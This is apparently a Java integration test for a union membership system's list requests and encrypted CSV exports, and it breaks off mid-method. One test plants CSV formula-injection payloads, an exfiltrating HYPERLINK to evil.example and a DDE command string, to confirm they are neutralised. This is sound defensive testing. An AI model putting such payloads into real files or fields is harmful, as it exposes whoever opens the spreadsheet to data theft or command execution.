package org.membergateway.exports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.membergateway.testing.ApiClient.basic;
import static org.membergateway.testing.ApiClient.json;

import com.fasterxml.jackson.databind.JsonNode;
import io.dropwizard.testing.ConfigOverride;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.membergateway.db.GatewayDatabase;
import org.membergateway.GatewayApplication;
import org.membergateway.GatewayConfiguration;
import org.membergateway.acknowledgements.AcknowledgementService;
import org.membergateway.testing.ApiClient;
import org.membergateway.policy.Office;
import org.membergateway.policy.ScopeType;
import org.membergateway.testing.GatewayTestApp;
import org.membergateway.testing.TestElections;
import org.membergateway.testing.GnuPg;
import org.membergateway.testing.TestDatabases;
import org.membergateway.testing.TestPeople;
import org.membergateway.testing.UnionFixture;

/**
 * List requests and exports end to end over real HTTP on embedded PostgreSQL, decrypted by the real
 * gpg: an officer asks, the local president approves, the officer exports and decrypts exactly the
 * requested columns of exactly their scope and audience, and only the members the channel reaches;
 * then what only the whole path shows: an export decided again (a candidacy declared since), the
 * passphrase export and its download limit, expiry and shredding, other people's exports, the audit
 * trail. The approval and export rules one
 * by one are tested a layer down (requests/ListRequestServiceIntegrationTest, exports/ExportDaoIntegrationTest).
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class ListRequestExportIntegrationTest {

    static final String ADMIN_PASSWORD = "bootstrap-admin-secret-7";

    static final DropwizardAppExtension<GatewayConfiguration> APP = GatewayTestApp.create(ADMIN_PASSWORD,
            ConfigOverride.config("exports.sweepEvery", "1h"));

    static final String ADMIN = basic("admin", ADMIN_PASSWORD);
    static final String OFFICER = basic("officer83", "officer-83-password");
    static final String PRESIDENT = basic("president83", "president-83-password");
    static final String OTHER = basic("officer84", "officer-84-password");
    static final String PRESIDENT85 = basic("president85", "president-85-password");
    static final List<String> FIELDS = List.of("last_name", "first_name", "home_email");
    static ApiClient api;
    static Jdbi superuser;
    static GnuPg gpg;


    @BeforeAll
    static void setUp() {
        api = new ApiClient(APP.getLocalPort());
        superuser = GatewayDatabase.jdbi(TestDatabases.dataSource(APP.getConfiguration().getDatabase().getUrl(), "postgres"));
        UnionFixture.in(superuser).local("L083", "R3", "STATE_AGENCIES").local("L084", "R3", "STATE_AGENCIES")
                .local("L085", "R3", "STATE_AGENCIES");
        superuser.useHandle(h -> {
            // 40 members of L083 (a quarter of them fair-share payers), 20 of L084.
            h.execute("""
                    INSERT INTO members (member_id, first_name, last_name, local_id, region, employer_group, membership_status,
                                         home_email, birth_date)
                    SELECT 'M' || lpad(i::text, 4, '0'), 'First' || i, 'Last, "' || i || '"',
                           CASE WHEN i <= 40 THEN 'L083' ELSE 'L084' END, 'R3', 'STATE_AGENCIES',
                           CASE WHEN i % 4 = 0 THEN 'FAIR_SHARE' ELSE 'MEMBER' END,
                           'm' || i || '@example.org', DATE '1980-01-01' + i
                    FROM generate_series(1, 60) AS i""");
        });
        TestPeople.create(api, ADMIN, "president83", "Test president83", "president-83-password", "LOCAL_PRESIDENT", "L083");
        TestPeople.create(api, ADMIN, "officer83", "Test officer83", "officer-83-password", "LOCAL_OFFICER", "L083");
        TestPeople.create(api, ADMIN, "officer84", "Test officer84", "officer-84-password", "LOCAL_OFFICER", "L084");
        TestPeople.create(api, ADMIN, "president85", "Test president85", "president-85-password", "LOCAL_PRESIDENT", "L085");
        TestPeople.create(api, ADMIN, "auditor7", "Test auditor7", "auditor-7-password", "AUDITOR", "L083");
        AcknowledgementService acknowledgements = APP.<GatewayApplication>getApplication().services().acknowledgements();
        TestPeople.acknowledgeEverything(api, acknowledgements, PRESIDENT, "Test president83");
        TestPeople.acknowledgeEverything(api, acknowledgements, OFFICER, "Test officer83");
        TestPeople.acknowledgeEverything(api, acknowledgements, OTHER, "Test officer84");
        TestPeople.acknowledgeEverything(api, acknowledgements, PRESIDENT85, "Test president85");
        gpg = GnuPg.inTemporaryHome();
        // The recipient checks the gateway's signature with the key it serves.
        gpg.importKey(api.get("/api/v1/keys/openpgp", null).body());
        String fingerprint = gpg.generateKey("Officer 83 <officer83@example.org>", "future-default", "default", "never");
        HttpResponse<String> key = api.put("/api/v1/people/officer83/openpgp-key", OFFICER, "application/pgp-keys",
                gpg.exportPublicKey(fingerprint));
        assertThat(key.statusCode()).as(key.body()).isEqualTo(204);
    }

    @AfterAll
    static void tearDown() {
        if (gpg != null) {
            gpg.close();
        }
    }

    static Map<String, Object> request(String local) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("purpose", "LOCAL_COMMUNICATION");
        body.put("scope", Map.of("type", "LOCAL", "id", local));
        body.put("audience", "MEMBERS");
        body.put("channel", "EMAIL");
        body.put("fields", FIELDS);
        body.put("justification", "Bargaining update to our local");
        return body;
    }

    /** An officer's request for L083, approved by the local president; returns its id. */
    static long approvedRequest() {
        HttpResponse<String> asked = api.postJson("/api/v1/list-requests", OFFICER, request("L083"));
        assertThat(asked.statusCode()).as(asked.body()).isEqualTo(202);
        JsonNode pending = json(asked);
        assertThat(pending.path("status").asText()).isEqualTo("PENDING_APPROVAL");
        assertThat(pending.path("approvers").get(0).path("role").asText()).isEqualTo("LOCAL_PRESIDENT");
        long id = pending.path("id").asLong();
        HttpResponse<String> approved = api.postJson("/api/v1/list-requests/" + id + "/approval", PRESIDENT,
                Map.of("approve", true, "note", "Fine for the bargaining update"));
        assertThat(approved.statusCode()).as(approved.body()).isEqualTo(200);
        assertThat(json(approved).path("status").asText()).isEqualTo("APPROVED");
        return id;
    }

    /** The cells of one CSV line. */
    static List<String> parse(String line) {
        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVParser.parse(line,
                org.apache.commons.csv.CSVFormat.DEFAULT)) {
            return parser.getRecords().get(0).toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** The export's seed records as the lines of its file (values that need no quoting). */
    static List<String> seedLines(String exportId, List<String> fields) {
        return superuser.withHandle(h -> h.createQuery("SELECT record::text FROM export_seeds WHERE export_id = CAST(:id AS uuid)")
                .bind("id", exportId).mapTo(String.class).list()).stream().map(record -> {
                    JsonNode seed;
                    try {
                        seed = new com.fasterxml.jackson.databind.ObjectMapper().readTree(record);
                    } catch (java.io.IOException e) {
                        throw new java.io.UncheckedIOException(e);
                    }
                    return String.join(",", fields.stream().map(f -> seed.path(f).asText("")).toList());
                }).toList();
    }

    static JsonNode export(long requestId, String encryption) {
        HttpResponse<String> created = api.postJson("/api/v1/list-requests/" + requestId + "/exports", OFFICER,
                Map.of("encryption", encryption));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        return json(created);
    }

    @Test
    void officerRequestsPresidentApprovesAndGpgDecryptsExactlyTheScopeAndFields() {
        long id = approvedRequest();
        JsonNode created = export(id, "RECIPIENT_KEY");
        // 30 of L083's 40 are members; the 20 of L084 and the fair-share payers are not in the list.
        // rows counts every row of the file, the seeds too, so it cannot tell them apart.
        assertThat(created.path("rows").asLong()).isBetween(32L, 34L);
        assertThat(created.path("sha256").asText()).matches("[0-9a-f]{64}");
        assertThat(created.has("passphrase")).isFalse();
        assertThat(created.path("expiresAt").asText()).matches("\\d{4}-\\d{2}-\\d{2}T.*");

        HttpResponse<byte[]> download = api.getBytes("/api/v1/exports/" + created.path("id").asText(), OFFICER);
        assertThat(download.statusCode()).isEqualTo(200);
        assertThat(download.headers().firstValue("Content-Type").orElse("")).startsWith("application/pgp-encrypted");
        GnuPg.Result decrypted = gpg.run(download.body(), "--status-fd", "2", "--decrypt");
        assertThat(decrypted.exitCode()).as(decrypted.stderr()).isZero();
        assertThat(decrypted.stderr()).contains("DECRYPTION_OKAY").contains("GOODMDC").contains("VALIDSIG");
        List<String> lines = decrypted.stdout().lines().toList();
        assertThat(lines.get(0)).isEqualTo(String.join(",", FIELDS));
        List<String> rows = lines.subList(1, lines.size());
        List<String> members = new ArrayList<>();
        for (int i = 1; i <= 40; i++) {
            if (i % 4 != 0) {
                members.add("\"Last, \"\"" + i + "\"\"\",First" + i + ",m" + i + "@example.org");
            }
        }
        List<String> seeds = rows.stream().filter(row -> !members.contains(row)).toList();
        assertThat(rows).containsAll(members);
        assertThat(created.path("rows").asLong()).isEqualTo(rows.size());
        // Besides the members, only the planted seed records (about 3), each recorded against this export,
        // written as the members are (their names, their email domain) and never the first or last row.
        assertThat(seeds).hasSizeBetween(2, 4).allMatch(row -> row.matches("\"Last, \"\"\\d+\"\"\",First\\d+,[a-z]\\d+@example\\.org"));
        assertThat(members).contains(rows.get(0), rows.get(rows.size() - 1));
        long recorded = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM export_seeds WHERE export_id = CAST(:id AS uuid)")
                .bind("id", created.path("id").asText()).mapTo(Long.class).one());
        assertThat(recorded).isEqualTo(seeds.size());
        long audited = superuser.withHandle(h -> h.createQuery("SELECT row_count FROM audit_entries WHERE target = :target AND decision = 'EXPORTED'")
                .bind("target", "export:" + created.path("id").asText()).mapTo(Long.class).one());
        assertThat(audited).as("the release's audit entry counts the rows released").isEqualTo(rows.size());

        // A seed's email address found in a leaked list names this export and its requester.
        String leakedEmail = seeds.get(0).substring(seeds.get(0).lastIndexOf(',') + 1).toUpperCase();
        HttpResponse<String> traced = api.postJson("/api/v1/exports/trace", basic("auditor7", "auditor-7-password"),
                Map.of("values", List.of("someone@example.org", leakedEmail)));
        assertThat(traced.statusCode()).as(traced.body()).isEqualTo(200);
        JsonNode match = json(traced).path("matches").get(0);
        assertThat(json(traced).path("matches")).hasSize(1);
        assertThat(match.path("exportId").asText()).isEqualTo(created.path("id").asText());
        assertThat(match.path("requester").asText()).isEqualTo("officer83");
        assertThat(match.path("field").asText()).isEqualTo("home_email");

        // The leaker cut the email column and shuffled the rows: a few of them still name the export.
        List<List<String>> leaked = new ArrayList<>();
        for (String row : List.of(rows.get(4), seeds.get(seeds.size() - 1), rows.get(1), seeds.get(0), rows.get(9))) {
            List<String> cells = parse(row);
            leaked.add(List.of(cells.get(1), cells.get(0)));
        }
        HttpResponse<String> cut = api.postJson("/api/v1/exports/trace", basic("auditor7", "auditor-7-password"),
                Map.of("rows", leaked));
        assertThat(cut.statusCode()).as(cut.body()).isEqualTo(200);
        List<String> tracedTo = new ArrayList<>();
        json(cut).path("matches").forEach(m -> tracedTo.add(m.path("exportId").asText() + "/" + m.path("seedNo").asInt()));
        assertThat(tracedTo).as("both seeds among the rows").filteredOn(t -> t.startsWith(created.path("id").asText()))
                .hasSizeGreaterThanOrEqualTo(seeds.size() == 1 ? 1 : 2);
        assertThat(api.postJson("/api/v1/exports/trace", OFFICER, Map.of("values", List.of(leakedEmail))).statusCode())
                .isEqualTo(403);

        // The request shows its export and how far it got.
        JsonNode view = json(api.get("/api/v1/list-requests/" + id, OFFICER));
        assertThat(view.path("exports").get(0).path("status").asText()).isEqualTo("READY");
        assertThat(view.path("exports").get(0).path("rowsWritten").asLong()).isEqualTo(rows.size());
        assertThat(view.path("exports").get(0).path("rows").asLong()).isEqualTo(rows.size());
    }

    /** Issue 15 point 3: one export per approval by default; a second copy needs a new request. */
    @Test
    void anApprovalAllowsOneExport() {
        long id = approvedRequest();
        HttpResponse<String> first = api.postJson("/api/v1/list-requests/" + id + "/exports", OFFICER,
                Map.of("encryption", "PASSPHRASE"));
        assertThat(first.statusCode()).as(first.body()).isEqualTo(201);
        HttpResponse<String> second = api.postJson("/api/v1/list-requests/" + id + "/exports", OFFICER,
                Map.of("encryption", "PASSPHRASE"));
        assertThat(second.statusCode()).isEqualTo(409);
        assertThat(json(second).path("error").asText()).isEqualTo("EXPORTS_USED");
        assertThat(json(second).path("message").asText()).contains("new request");
        assertThat(TestDatabases.one(superuser, "SELECT count(*) FROM exports WHERE request_id = " + id, Long.class))
                .isEqualTo(1L);
    }

    /** Issue 15 point 3: the officer who downloaded a list attests its destruction, as vendors do; audited, once. */
    @Test
    void theRequesterAttestsTheListsDestructionOnceItWasExported() {
        long id = approvedRequest();
        Map<String, Object> statement = Map.of("destroyedOn", java.time.LocalDate.now().toString(),
                "method", "Deleted the file and emptied the trash");
        HttpResponse<String> early = api.postJson("/api/v1/list-requests/" + id + "/destruction", OFFICER, statement);
        assertThat(early.statusCode()).isEqualTo(409);
        assertThat(json(early).path("error").asText()).isEqualTo("NOTHING_EXPORTED");
        assertThat(api.postJson("/api/v1/list-requests/" + id + "/exports", OFFICER, Map.of("encryption", "PASSPHRASE"))
                .statusCode()).isEqualTo(201);

        assertThat(api.postJson("/api/v1/list-requests/" + id + "/destruction", PRESIDENT, statement).statusCode())
                .as("only the requester attests").isEqualTo(404);
        HttpResponse<String> future = api.postJson("/api/v1/list-requests/" + id + "/destruction", OFFICER,
                Map.of("destroyedOn", java.time.LocalDate.now().plusDays(2).toString(), "method", "later"));
        assertThat(future.statusCode()).isEqualTo(400);
        assertThat(json(future).path("field").asText()).isEqualTo("destroyedOn");
        HttpResponse<String> attested = api.postJson("/api/v1/list-requests/" + id + "/destruction", OFFICER, statement);
        assertThat(attested.statusCode()).as(attested.body()).isEqualTo(201);
        assertThat(json(attested).path("attestedBy").asText()).isEqualTo("officer83");
        HttpResponse<String> again = api.postJson("/api/v1/list-requests/" + id + "/destruction", OFFICER, statement);
        assertThat(again.statusCode()).isEqualTo(409);
        assertThat(json(again).path("error").asText()).isEqualTo("ALREADY_ATTESTED");
        assertThat(TestDatabases.one(superuser, "SELECT count(*) FROM audit_entries WHERE target = 'list-request:" + id
                + "' AND action = 'EXTRACT_DESTRUCTION_ATTESTED'", Long.class)).isEqualTo(1L);
    }

    @Test
    void anApprovalDoesNotCoverARequesterWhoHasSinceDeclaredACandidacy() {
        long id = approvedRequest();
        TestElections.forCandidacy(superuser, "E2027-L083", Office.LOCAL_OFFICE, ScopeType.LOCAL, "L083");
        HttpResponse<String> declared = api.postJson("/api/v1/people/officer83/candidacies", ADMIN, Map.of(
                "office", "LOCAL_OFFICE", "scopeType", "LOCAL", "scopeId", "L083", "electionId", "E2027-L083"));
        assertThat(declared.statusCode()).as(declared.body()).isEqualTo(201);
        try {
            HttpResponse<String> export = api.postJson("/api/v1/list-requests/" + id + "/exports", OFFICER,
                    Map.of("encryption", "PASSPHRASE"));
            assertThat(export.statusCode()).isEqualTo(409);
            assertThat(json(export).path("error").asText()).isEqualTo("APPROVAL_OUTDATED");
            assertThat(json(export).path("message").asText()).contains("EXECUTIVE_DIRECTOR");
        } finally {
            superuser.useHandle(h -> h.execute("DELETE FROM candidacies"));
        }
    }

    @Test
    void anEmailListLeavesOutTheMembersWithoutAnEmailAddressAmongTheRequestedOnes() {
        // L085: 12 members; every third has no email address at all, every fourth of the others only a work one.
        superuser.useHandle(h -> h.execute("""
                INSERT INTO members (member_id, first_name, last_name, local_id, region, employer_group, membership_status,
                                     home_email, work_email)
                SELECT 'E' || lpad(i::text, 4, '0'), 'First' || i, 'Last' || i, 'L085', 'R3', 'STATE_AGENCIES', 'MEMBER',
                       CASE WHEN i % 3 = 0 OR i % 4 = 0 THEN NULL ELSE 'e' || i || '@home.example' END,
                       CASE WHEN i % 3 = 0 THEN NULL ELSE 'e' || i || '@work.example' END
                FROM generate_series(1, 12) AS i"""));
        Map<String, Object> body = request("L085");
        body.put("fields", List.of("first_name", "home_email"));
        HttpResponse<String> asked = api.postJson("/api/v1/list-requests", PRESIDENT85, body);
        assertThat(asked.statusCode()).as(asked.body()).isEqualTo(201);
        HttpResponse<String> built = api.postJson("/api/v1/list-requests/" + json(asked).path("id").asLong() + "/exports",
                PRESIDENT85, Map.of("encryption", "PASSPHRASE"));
        assertThat(built.statusCode()).as(built.body()).isEqualTo(201);
        JsonNode created = json(built);
        // 1 2 5 7 10 11 have a home address; 3 6 9 12 none, 4 and 8 only a work one, which was not asked for.
        long seedCount = superuser.withHandle(h -> h.createQuery("SELECT seed_count FROM exports WHERE id = CAST(:id AS uuid)")
                .bind("id", created.path("id").asText()).mapTo(Long.class).one());
        assertThat(created.path("rows").asLong() - seedCount).isEqualTo(6);
        HttpResponse<byte[]> download = api.getBytes("/api/v1/exports/" + created.path("id").asText(), PRESIDENT85);
        GnuPg.Result decrypted = decryptWithPassphrase(download.body(), created.path("passphrase").asText());
        assertThat(decrypted.exitCode()).as(decrypted.stderr()).isZero();
        List<String> seeds = seedLines(created.path("id").asText(), List.of("first_name", "home_email"));
        assertThat(created.path("rows").asLong()).isEqualTo(decrypted.stdout().lines().count() - 1);
        List<String> rows = decrypted.stdout().lines().skip(1).filter(row -> !seeds.contains(row)).toList();
        assertThat(rows).containsExactlyInAnyOrder("First1,e1@home.example", "First2,e2@home.example", "First5,e5@home.example",
                "First7,e7@home.example", "First10,e10@home.example", "First11,e11@home.example");
        assertThat(decrypted.stdout().lines().skip(1)).as("no row without an address").noneMatch(row -> row.endsWith(","));

        body.put("fields", List.of("first_name", "home_email", "work_email"));
        HttpResponse<String> both = api.postJson("/api/v1/list-requests", PRESIDENT85, body);
        HttpResponse<String> bothBuilt = api.postJson("/api/v1/list-requests/" + json(both).path("id").asLong() + "/exports",
                PRESIDENT85, Map.of("encryption", "PASSPHRASE"));
        long bothSeeds = superuser.withHandle(h -> h.createQuery("SELECT seed_count FROM exports WHERE id = CAST(:id AS uuid)")
                .bind("id", json(bothBuilt).path("id").asText()).mapTo(Long.class).one());
        assertThat(json(bothBuilt).path("rows").asLong() - bothSeeds).as("4 and 8 are reached at work").isEqualTo(8);
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndTheDatabaseKeepsTheValue() throws Exception {
        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        List<List<String>> hostile = List.of(
                List.of(link, "Smith"), List.of("+1+cmd|' /C calc'!A0", "-2+3"), List.of("@SUM(1+1)", "\tTab"),
                List.of("Ann", "\rCR"), List.of("Plain", "Lee-Jones"));
        UnionFixture.in(superuser).local("L086", "R3", "STATE_AGENCIES");
        superuser.useHandle(h -> {
            for (int i = 0; i < hostile.size(); i++) {
                h.createUpdate("""
                        INSERT INTO members (member_id, first_name, last_name, local_id, region, employer_group,
                                             membership_status, home_email)
                        VALUES (:id, :first, :last, 'L086', 'R3', 'STATE_AGENCIES', 'MEMBER', :email)""")
                        .bind("id", "F" + i).bind("first", hostile.get(i).get(0)).bind("last", hostile.get(i).get(1))
                        .bind("email", "f" + i + "@example.org").execute();
            }
        });
        TestPeople.create(api, ADMIN, "president86", "Test president86", "president-86-password", "LOCAL_PRESIDENT", "L086");
        String president86 = basic("president86", "president-86-password");
        TestPeople.acknowledgeEverything(api, APP.<GatewayApplication>getApplication().services().acknowledgements(),
                president86, "Test president86");
        Map<String, Object> body = request("L086");
        body.put("fields", List.of("first_name", "last_name", "home_email"));
        HttpResponse<String> asked = api.postJson("/api/v1/list-requests", president86, body);
        assertThat(asked.statusCode()).as(asked.body()).isEqualTo(201);
        JsonNode created = json(api.postJson("/api/v1/list-requests/" + json(asked).path("id").asLong() + "/exports",
                president86, Map.of("encryption", "PASSPHRASE")));
        GnuPg.Result decrypted = decryptWithPassphrase(
                api.getBytes("/api/v1/exports/" + created.path("id").asText(), president86).body(),
                created.path("passphrase").asText());
        assertThat(decrypted.exitCode()).as(decrypted.stderr()).isZero();
        String csv = decrypted.stdout();
        Map<String, List<String>> byEmail = new LinkedHashMap<>();
        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv))) {
            parser.forEach(r -> byEmail.put(r.get("home_email"), List.of(r.get("first_name"), r.get("last_name"))));
        }
        assertThat(created.path("rows").asLong()).as("every row of the file, the members and the seeds among them")
                .isEqualTo(byEmail.size()).isGreaterThan(hostile.size());
        assertThat(byEmail.get("f0@example.org")).containsExactly("'" + link, "Smith");
        assertThat(byEmail.get("f1@example.org")).containsExactly("'+1+cmd|' /C calc'!A0", "'-2+3");
        assertThat(byEmail.get("f2@example.org")).containsExactly("'@SUM(1+1)", "'\tTab");
        assertThat(byEmail.get("f3@example.org")).containsExactly("Ann", "'\rCR");
        assertThat(byEmail.get("f4@example.org")).containsExactly("Plain", "Lee-Jones");
        assertThat(csv).as("each neutralized cell is quoted").contains("\"'" + link.replace("\"", "\"\"") + "\",Smith,")
                .contains("\"'+1+cmd|' /C calc'!A0\",\"'-2+3\",").contains("\"'@SUM(1+1)\",\"'\tTab\",");
        // The seeds planted among the rows pass the same rule and still trace to this export.
        // Their names are drawn from these members', so a seed may carry a formula too: no cell of the
        // file, seed or member, may begin as one.
        assertThat(byEmail.keySet().stream().filter(e -> !e.matches("f[0-4]@example\\.org"))).as("the seeds")
                .hasSizeBetween(2, 4);
        assertThat(byEmail.values().stream().flatMap(List::stream))
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);

        List<String> stored = superuser.withHandle(h -> h.createQuery(
                "SELECT first_name FROM members WHERE local_id = 'L086' ORDER BY member_id").mapTo(String.class).list());
        assertThat(stored).as("the database keeps the values as given")
                .containsExactly(link, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "Ann", "Plain");
    }

    @Test
    void aPassphraseExportDecryptsWithThePassphraseShownOnceAndTheFourthDownloadIsGone() {
        long id = approvedRequest();
        JsonNode created = export(id, "PASSPHRASE");
        String passphrase = created.path("passphrase").asText();
        assertThat(passphrase).hasSizeGreaterThan(20);
        String path = "/api/v1/exports/" + created.path("id").asText();
        for (int i = 0; i < 3; i++) {
            HttpResponse<byte[]> download = api.getBytes(path, OFFICER);
            assertThat(download.statusCode()).isEqualTo(200);
            if (i == 0) {
                GnuPg.Result ok = decryptWithPassphrase(download.body(), passphrase);
                assertThat(ok.exitCode()).as(ok.stderr()).isZero();
                assertThat(ok.stdout().lines().findFirst().orElse("")).isEqualTo(String.join(",", FIELDS));
            }
        }
        assertThat(api.getBytes(path, OFFICER).statusCode()).isEqualTo(410);
        assertThat(refusalsRecorded("officer83", "DOWNLOAD_LIMIT_REACHED")).as("the refused fourth download").isTrue();
        // The third download used the last one: the ciphertext is already shredded.
        assertThat(blobKeyGone(created.path("id").asText())).isTrue();
        assertThat(json(api.get("/api/v1/list-requests/" + id, OFFICER)).path("exports").get(0).path("status").asText())
                .isEqualTo("DESTROYED");
    }

    @Test
    void aHeadOnADownloadIsRefusedAndNeitherCountsNorDestroysIt() {
        long id = approvedRequest();
        JsonNode created = export(id, "PASSPHRASE");
        String exportId = created.path("id").asText();
        String path = "/api/v1/exports/" + exportId;
        for (int i = 0; i < 3; i++) {
            HttpResponse<String> head = api.head(path, OFFICER);
            assertThat(head.statusCode()).isEqualTo(405);
            assertThat(head.headers().firstValue("Allow")).hasValue("GET");
        }
        long claimed = superuser.withHandle(h -> h.createQuery(
                        "SELECT count(*) FROM audit_entries WHERE action = 'DATA_RELEASE' AND decision = 'DOWNLOADED' AND target = :t")
                .bind("t", "export:" + exportId).mapTo(Long.class).one());
        assertThat(claimed).isZero();
        assertThat(blobKeyGone(exportId)).isFalse();
        for (int i = 0; i < 3; i++) {
            assertThat(api.getBytes(path, OFFICER).statusCode()).isEqualTo(200);
        }
        assertThat(api.getBytes(path, OFFICER).statusCode()).isEqualTo(410);
    }

    @Test
    void afterExpiryTheExportIsGoneAndItsCiphertextDestroyed() {
        long id = approvedRequest();
        String exportId = export(id, "RECIPIENT_KEY").path("id").asText();
        superuser.useHandle(h -> h.createUpdate("UPDATE exports SET expires_at = now() - interval '1 second' WHERE id = CAST(:id AS uuid)")
                .bind("id", exportId).execute());
        assertThat(api.getBytes("/api/v1/exports/" + exportId, OFFICER).statusCode()).isEqualTo(410);
        long oid = superuser.withHandle(h -> h.createQuery(
                        "SELECT b.lo_oid FROM exports e JOIN export_blobs b ON b.id = e.blob_id WHERE e.id = CAST(:id AS uuid)")
                .bind("id", exportId).mapTo(Long.class).one());
        APP.<GatewayApplication>getApplication().services().exportSweeper().sweep();
        assertThat(blobKeyGone(exportId)).isTrue();
        long objects = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM pg_largeobject_metadata WHERE oid = :oid")
                .bind("oid", oid).mapTo(Long.class).one());
        assertThat(objects).isZero();
        long destroyed = superuser.withHandle(h -> h.createQuery(
                        "SELECT count(*) FROM audit_entries WHERE action = 'EXPORT_DESTROYED' AND target = :t AND decision = 'EXPIRED'")
                .bind("t", "export:" + exportId).mapTo(Long.class).one());
        assertThat(destroyed).isEqualTo(1);
    }

    @Test
    void someoneElsesExportIs404() {
        long id = approvedRequest();
        String exportId = export(id, "RECIPIENT_KEY").path("id").asText();
        assertThat(api.getBytes("/api/v1/exports/" + exportId, OTHER).statusCode()).isEqualTo(404);
        assertThat(api.getBytes("/api/v1/exports/" + exportId, PRESIDENT).statusCode()).isEqualTo(404);
        assertThat(api.getBytes("/api/v1/exports/not-a-uuid", OFFICER).statusCode()).isEqualTo(404);
        assertThat(refusalsRecorded("officer84", "EXPORT_NOT_VISIBLE")).as("someone else's export").isTrue();
        assertThat(refusalsRecorded("president83", "EXPORT_NOT_VISIBLE")).isTrue();
        assertThat(refusalsRecorded("officer83", "EXPORT_NOT_VISIBLE")).as("a malformed id").isTrue();
        assertThat(api.get("/api/v1/list-requests/" + id, OTHER).statusCode()).isEqualTo(404);
        assertThat(refusalsRecorded("officer84", "LIST_REQUEST_NOT_VISIBLE")).as("someone else's request").isTrue();
        long entries = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM audit_entries").mapTo(Long.class).one());
        for (int i = 0; i < 20; i++) {
            assertThat(api.getBytes("/api/v1/exports/" + exportId, OTHER).statusCode()).isEqualTo(404);
        }
        long after = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM audit_entries").mapTo(Long.class).one());
        // At most one more, should the window have turned meanwhile.
        assertThat(after - entries).as("probing again in the window adds to a count, not entries").isLessThanOrEqualTo(1);
        assertThat(api.postJson("/api/v1/list-requests/" + id + "/exports", OTHER, Map.of("encryption", "PASSPHRASE"))
                .statusCode()).isEqualTo(404);
    }

    @Test
    void exportingOrApprovingARequestThatIsNotTheCallersIsTallied() {
        long approved = approvedRequest();
        HttpResponse<String> asked = api.postJson("/api/v1/list-requests", OFFICER, request("L083"));
        assertThat(asked.statusCode()).as(asked.body()).isEqualTo(202);
        long pending = json(asked).path("id").asLong();

        // Both run inside the caller's transaction, which the 404 rolls back; the tally must stay.
        assertThat(api.postJson("/api/v1/list-requests/" + approved + "/exports", PRESIDENT85,
                Map.of("encryption", "PASSPHRASE")).statusCode()).isEqualTo(404);
        assertThat(refusalsRecorded("president85", "LIST_REQUEST_NOT_EXPORTABLE")).as("an export of another's request")
                .isTrue();
        assertThat(api.postJson("/api/v1/list-requests/" + pending + "/approval", PRESIDENT85,
                Map.of("approve", true, "note", "not mine to decide")).statusCode()).isEqualTo(404);
        assertThat(refusalsRecorded("president85", "LIST_REQUEST_NOT_VISIBLE")).as("an approval of an unseen request")
                .isTrue();
        // The approver may see the request but only its requester exports it: a 404, tallied too.
        assertThat(api.postJson("/api/v1/list-requests/" + approved + "/exports", PRESIDENT,
                Map.of("encryption", "PASSPHRASE")).statusCode()).isEqualTo(404);
        assertThat(refusalsRecorded("president83", "LIST_REQUEST_NOT_EXPORTABLE")).isTrue();
        assertThat(api.postJson("/api/v1/list-requests/999999999/approval", PRESIDENT85,
                Map.of("approve", false)).statusCode()).isEqualTo(404);

        long entries = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM audit_entries").mapTo(Long.class).one());
        for (int i = 0; i < 10; i++) {
            assertThat(api.postJson("/api/v1/list-requests/" + approved + "/exports", PRESIDENT85,
                    Map.of("encryption", "PASSPHRASE")).statusCode()).isEqualTo(404);
            assertThat(api.postJson("/api/v1/list-requests/" + pending + "/approval", PRESIDENT85,
                    Map.of("approve", true)).statusCode()).isEqualTo(404);
        }
        long after = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM audit_entries").mapTo(Long.class).one());
        assertThat(after - entries).as("probing again in the window adds to a count, not entries").isLessThanOrEqualTo(2);
        // Nothing was approved or built by the prober.
        assertThat(json(api.get("/api/v1/list-requests/" + pending, OFFICER)).path("status").asText())
                .isEqualTo("PENDING_APPROVAL");
    }

    @Test
    void everyStepIsInTheAuditTrailAndTheTrailVerifies() {
        long id = approvedRequest();
        String exportId = export(id, "RECIPIENT_KEY").path("id").asText();
        api.getBytes("/api/v1/exports/" + exportId, OFFICER);
        List<String> actions = superuser.withHandle(h -> h.createQuery("""
                        SELECT action || ':' || coalesce(decision, '') FROM audit_entries
                        WHERE target IN (:request, :export) ORDER BY seq""")
                .bind("request", "list-request:" + id).bind("export", "export:" + exportId).mapTo(String.class).list());
        assertThat(actions).containsExactly("DECISION:PENDING_APPROVAL", "APPROVAL:APPROVED", "DATA_RELEASE:EXPORTED",
                "DATA_RELEASE:DOWNLOADED");
        JsonNode verification = json(api.get("/api/v1/audit/verification", basic("auditor7", "auditor-7-password")));
        assertThat(verification.path("valid").asBoolean()).as(verification.toString()).isTrue();
    }

    private static GnuPg.Result decryptWithPassphrase(byte[] message, String passphrase) {
        try {
            java.nio.file.Path file = Files.createTempFile(gpg.home(), "export", ".gpg");
            Files.write(file, message);
            return gpg.run(passphrase.getBytes(StandardCharsets.UTF_8), "--pinentry-mode", "loopback", "--passphrase-fd", "0",
                    "--decrypt", file.toString());
